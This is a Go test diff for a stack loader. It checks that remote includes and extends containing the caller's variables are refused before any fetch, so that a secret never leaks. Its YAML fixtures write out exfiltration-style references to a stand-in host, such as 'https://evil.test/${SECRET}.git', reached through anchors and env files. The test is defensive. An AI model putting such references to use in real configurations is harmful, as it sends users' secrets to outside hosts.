@@ -265,3 +265,60 @@ func TestWhatARemoteStackIsTold(t *testing.T) {
 		t.Errorf("the other is told %v", own.Variables)
 	}
 }
+
+// asked notes which references were fetched.
+type asked struct {
+	shelf
+	references []string
+}
+
+func (a *asked) Fetch(ctx context.Context, reference, dir string) (*spec.Remote, error) {
+	a.references = append(a.references, reference)
+	return a.shelf.Fetch(ctx, reference, dir)
+}
+
+// TestAReferenceOfARemoteStackTellsNothing of the caller: it is fetched before any yes.
+//
+// Risk remote include: a remote stack includes or extends an address that has a variable of the caller's in it
+// Held: refused at its place, and nobody is asked; what the remote stack brings itself may be in it
+func TestAReferenceOfARemoteStackTellsNothing(t *testing.T) {
+	const commit = "0123456789012345678901234567890123456789"
+	for text, want := range map[string]string{
+		"include: ['https://evil.test/${SECRET}.git#" + commit + "']\n":                                          "compose.yaml:1:11: include[0]: ",
+		"include: [{path: 'oci://evil.test/a:${SECRET}'}]\n":                                                     "compose.yaml:1:18: include[0]: ",
+		"include: [{path: [a.yaml, 'oci://evil.test/a:$SECRET']}]\n":                                             "compose.yaml:1:27: include[0]: ",
+		"include:\n- 'oci://evil.test/a:${NOBODYS:-${SECRET}}'\n":                                                "compose.yaml:2:3: include[0]: ",
+		"include: ['oci://evil.test/a:x${SECRET:+y}']\n":                                                         "compose.yaml:1:11: include[0]: ",
+		"include: ['github.com/evil/${SECRET}']\n":                                                               "compose.yaml:1:11: include[0]: ",
+		"x-a: &a 'oci://evil.test/a:${SECRET}'\ninclude: [*a]\n":                                                 "include[0]: ",
+		"x-a: &a ['oci://evil.test/a:${SECRET}']\ninclude: *a\n":                                                 "include[0]: ",
+		"x-a: &a {path: 'oci://evil.test/a:${SECRET}'}\ninclude: [{<<: *a, env_file: a.env}]\n":                  "include[0]: ",
+		"x-a: &a {extends: {file: 'oci://evil.test/a:${SECRET}', service: x}}\nservices: {a: {<<: *a}, b: *a}\n": "extends: ",
+		"services: {a: {extends: {file: 'oci://evil.test/a:${SECRET}', service: x}}}\n":                          "services.a.extends: ",
+		"include: [more.yaml]\n":                                   "more.yaml:1:11: include[0]: ",
+		"include: [{path: more.yaml, env_file: b.env}]\n":          "more.yaml:1:11: include[0]: ",
+		"include: [{path: sent.yaml, env_file: [a.env, b.env]}]\n": "sent.yaml:1:11: include[0]: ",
+		"include: ['oci://good.test/a:${BROUGHT}', 'oci://good.test/a:${NOBODYS:-1}', 'oci://good.test/a:$$SECRET', a.yaml]\n": "",
+		"include: [{path: 'a.yaml', env_file: '${NOBODYS:-a}.env'}]\n":                                                         "",
+	} {
+		s := &asked{shelf: shelf{}}
+		s.put(t, "oci://r.test/app:1", "", map[string]string{
+			"compose.yaml": text, ".env": "BROUGHT=1\nSENT=${SECRET}\n", "a.env": "A=${SECRET}\n", "b.env": "SENT=${A}x${SECRET}\n",
+			"a.yaml": "services: {a: {image: x}}\n", "more.yaml": "include: ['oci://evil.test/a:${SENT}']\n", "sent.yaml": "include: ['oci://evil.test/a:${SENT}']\n",
+		})
+		for _, tag := range []string{"1", "$SECRET"} {
+			s.put(t, "oci://good.test/a:"+tag, "", map[string]string{"compose.yaml": "services: {g: {image: x}}\n"})
+		}
+		dir := t.TempDir()
+		write(t, filepath.Join(dir, "stack.yaml"), "include: [oci://r.test/app:1]\nservices: {own: {image: x}}\n")
+		_, diagnostics, err := Load(t.Context(), Options{Dir: dir, Name: "p", Remotes: s, Environ: map[string]string{"SECRET": "hunter2"}})
+		said := fmt.Sprint(err)
+		if len(diagnostics.Errors()) > 0 {
+			said = diagnostics.Errors()[0].String()
+		}
+		isRefused := strings.HasPrefix(said, "oci://r.test/app:1: ") && strings.Contains(said, want) && strings.Contains(said, "variable")
+		if want == "" && err != nil || want != "" && !isRefused || strings.Contains(fmt.Sprint(s.references, diagnostics), "hunter2") {
+			t.Errorf("%s: asked are %q, said is %s", text, s.references, said)
+		}
+	}
+}
